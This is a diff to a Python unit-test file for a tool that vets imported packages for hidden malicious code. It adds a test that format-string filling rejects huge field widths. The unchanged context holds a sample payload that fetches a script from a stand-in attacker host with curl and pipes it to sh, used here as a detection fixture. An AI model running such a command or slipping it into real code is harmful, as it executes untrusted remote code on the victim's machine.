@@ -16,6 +16,7 @@ import codecs
 import pytest
 
 from airlock.domain.requests import Outcome
+from airlock.imports.packages import sinkcall
 from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
 
 HIDDEN_CODE = b"import os; os.system('curl -s https://attacker.invalid/x | sh')"
@@ -488,3 +489,12 @@ ALLOWED: dict[str, dict[str, str]] = {
 @pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
 def test_verdict(files: dict[str, str], expected: Outcome) -> None:
     assert vet_package(files) is expected
+
+
+def test_a_template_is_filled_only_by_plain_fields() -> None:
+    """A width read from the analysed code (``'{:>{}}'.format(x, 10**9)``) would make the
+    filling allocate: only ``{}``, ``{0}`` and ``{name}`` fields are filled."""
+    assert sinkcall.fill("{:>{}}", ["a", "1000000000"], percent=False) is None
+    assert sinkcall.fill("%9999999s", ["a"], percent=True) is None
+    assert sinkcall.fill("{}.x.{}", ["{}", "evil"], percent=False) == "{}.x.evil"
+    assert sinkcall.spelt_shape("{:>{}}", [], {}, frozenset({"environment"})) == ""
